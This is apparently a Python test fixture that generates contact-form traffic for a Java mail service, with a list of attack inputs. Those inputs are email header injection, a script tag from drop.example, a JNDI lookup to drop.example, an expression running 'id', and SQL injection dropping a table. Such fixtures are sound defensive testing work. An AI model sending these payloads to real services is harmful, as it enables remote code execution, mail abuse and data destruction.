# SPDX-License-Identifier: Apache-2.0
"""Forms that people send to contact-mail, and what attackers do."""

import urllib.parse

RUNTIME = "java"
HANDLER = "Handler::handleRequest"
SERVICES = ["smtp"]
ENVIRONMENT = {"MAIL_SERVER": "127.0.0.1:8025"}


def _form(traffic, **more):
    fields = {"name": traffic.person(), "email": traffic.email(), "subject": traffic.words(1, 6), "message": traffic.text(1, 8), **more}
    return traffic.http("POST", "/contact", body=urllib.parse.urlencode(fields), headers={"Content-Type": "application/x-www-form-urlencoded"})


def benign(traffic):
    if traffic.happens(0.03):
        return _form(traffic, message=traffic.text(60, 90))
    if traffic.happens(0.02):
        return _form(traffic, email=traffic.choice(["", "nobody", traffic.person()]))
    return _form(traffic)


INPUTS = {
    "second receiver": lambda traffic: _form(traffic, email="a@example.com\r\nBcc: everybody@drop.example\r\nContent-Type: text/html"),
    "script": lambda traffic: _form(traffic, message="<script src=//drop.example/x.js></script>"),
    "lookup": lambda traffic: _form(traffic, subject="${jndi:ldap://drop.example/a}"),
    "expression": lambda traffic: _form(traffic, name="${T(java.lang.Runtime).getRuntime().exec('id')}"),
    "statement": lambda traffic: _form(traffic, email="a@example.com' OR 1=1; DROP TABLE letters; --"),
}
